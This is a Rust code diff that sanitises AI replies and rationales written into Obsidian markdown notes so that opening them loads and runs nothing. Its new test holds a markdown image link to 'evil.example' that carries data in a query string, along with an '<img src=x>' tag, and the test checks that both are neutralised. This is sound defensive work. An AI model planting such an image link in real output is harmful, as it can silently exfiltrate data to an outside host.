@@ -2,6 +2,7 @@
 //! `00_plan-trace/` folder, readable in Obsidian. Rendering is pure so the CLI
 //! and the browser worker write the same bytes.
 
+use super::inert::inert;
 use serde::{Deserialize, Serialize};
 use std::collections::BTreeSet;
 
@@ -216,15 +217,15 @@ impl TraceEntry {
             one_line(&self.title),
             one_line(&self.node),
             // A reason may quote what a plan or a reply wrote: on one line,
-            // it cannot start an entry of its own (`## 2. …`).
-            one_line(&self.what),
+            // it cannot start an entry of its own (`## 2. …`), and inert.
+            inert(&one_line(&self.what)),
             self.decided_by.as_str()
         );
         if let Some(rationale) = &self.rationale {
             out.push_str("- rationale:\n\n");
             // Every line of it quoted, a lone CR's too (Obsidian breaks the
             // line there): none can start an entry.
-            for line in rationale.lines() {
+            for line in inert(rationale).lines() {
                 for piece in line.split(['\r', '\u{2028}', '\u{2029}']) {
                     out.push_str(&format!("  > {piece}\n"));
                 }
@@ -259,8 +260,9 @@ pub fn resume_marker(what: &str) -> String {
 /// The held output's note; [`parse_output_note`] reads it back.
 pub fn held_output_note(node: &str, title: &str, visit: u32, text: &str) -> String {
     format!(
-        "# {} (visit {visit}, held at a breakpoint)\n\nOutput of [[{node}]].\n\n{text}\n",
-        one_line(title)
+        "# {} (visit {visit}, held at a breakpoint)\n\nOutput of [[{node}]].\n\n{}\n",
+        one_line(title),
+        inert(text)
     )
 }
 
@@ -276,11 +278,13 @@ fn file_safe(node: &str) -> String {
         .collect()
 }
 
-/// The output note's text.
+/// The output note's text; the reply made [`inert`]: opening it in
+/// Obsidian loads and runs nothing.
 pub fn output_note(node: &str, title: &str, visit: u32, text: &str) -> String {
     format!(
-        "# {} (visit {visit})\n\nOutput of [[{node}]].\n\n{text}\n",
-        one_line(title)
+        "# {} (visit {visit})\n\nOutput of [[{node}]].\n\n{}\n",
+        one_line(title),
+        inert(text)
     )
 }
 
@@ -340,6 +344,18 @@ mod tests {
         assert_eq!(
             entry.to_markdown(),
             "\n## 2. Review the draft (visit 1)\n\n- node: [[review]]\n- took `approved` → [[send]]\n- decided by: grid\n- rationale:\n\n  > 1. YES - fine\n  > 2. NO\n"
+        );
+        // A judgment's reply shows in the trace inert, as an output does.
+        let entry = TraceEntry {
+            rationale: Some("1. YES ![ok](https://evil.example/?d=1)\n2. NO <img src=x>".into()),
+            ..entry
+        };
+        assert!(
+            entry.to_markdown().ends_with(
+                "  > 1. YES [ok](https://evil.example/?d=1)\n  > 2. NO &lt;img src=x>\n"
+            ),
+            "{}",
+            entry.to_markdown()
         );
     }
 
